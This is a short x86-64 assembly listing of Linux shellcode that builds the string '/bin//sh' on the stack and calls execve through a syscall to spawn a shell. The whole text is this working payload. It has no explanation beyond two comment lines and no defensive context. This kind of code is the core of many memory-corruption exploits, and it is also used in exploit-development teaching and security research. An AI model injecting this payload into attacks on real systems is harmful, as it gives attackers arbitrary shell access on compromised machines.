; execve("/bin//sh", NULL, NULL), Linux x86-64, the string on the stack.
; Found by the system call site (syscall, rax = 59).
BITS 64
    xor esi, esi
    push rsi
    mov rdi, 0x68732f2f6e69622f ; "/bin//sh"
    push rdi
    push rsp
    pop rdi
    xor edx, edx
    push 59                     ; execve
    pop rax
    syscall
